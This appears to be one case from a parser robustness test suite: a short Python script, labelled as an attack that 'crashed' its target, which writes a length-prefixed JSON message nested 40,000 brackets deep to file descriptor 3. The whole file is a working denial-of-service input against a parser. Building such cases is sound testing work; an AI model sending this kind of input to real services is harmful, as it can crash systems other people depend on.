# /// attack
# story = "Answers with a list forty thousand deep, to break the parser."
# verdict = "crashed"
# ///
import os
import struct

content = b'{"id": ' + b"[" * 40_000 + b"]" * 40_000 + b"}"
os.write(3, struct.pack(">I", len(content)) + content)
